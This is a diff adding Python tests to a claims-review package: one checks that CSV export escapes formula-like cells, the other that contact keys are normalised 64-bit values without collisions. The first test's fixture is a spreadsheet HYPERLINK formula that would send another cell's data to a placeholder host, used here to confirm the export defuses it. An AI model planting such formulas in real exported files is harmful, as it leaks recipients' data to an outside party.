@@ -96,3 +96,27 @@ def test_agents_ledger_entries_are_outages_of_every_service():
                              {"site": "ansan", "start": 200.0, "end": None},   # still open: until now
                              {"site": "broken"}], now=300.0)
     assert got == [Outage("*", 100.0, 160.0, "pangyo", "agent"), Outage("*", 200.0, 300.0, "ansan", "agent")]
+
+
+def test_exported_cells_never_become_spreadsheet_formulas():
+    import csv
+    import io
+
+    from firebreak.claims.review import export_csv
+
+    row = {"receipt": "R-1", "reporter_kind": "individual", "service": "messenger",
+           "contact": '=HYPERLINK("http://x/?"&D2,"y")&"@a.b"', "amount": 30000, "goodwill": "", "rule": "r1",
+           "decided_by": "@anna", "decided_at": None}
+    phone = dict(row, contact="+82 10-1234-5678")
+    out = list(csv.reader(io.StringIO(export_csv([row, phone], "KRW"))))
+    assert out[1][3].startswith("'=HYPERLINK") and out[1][8] == "'@anna"
+    assert out[2][3] == "'+82 10-1234-5678" and out[2][4] == "30000"  # amounts stay numbers
+
+
+def test_contact_keys_are_64_bit_and_normalised():
+    from firebreak.claims.io import contact_key
+
+    assert contact_key(" Anna@Example.com ") == contact_key("anna@example.com")
+    keys = {contact_key(f"user{i}@example.com") for i in range(200_000)}
+    assert len(keys) == 200_000  # no false pair in 200k (a 32-bit CRC expects about 5 here)
+    assert all(-(2**63) <= k < 2**63 for k in list(keys)[:100])
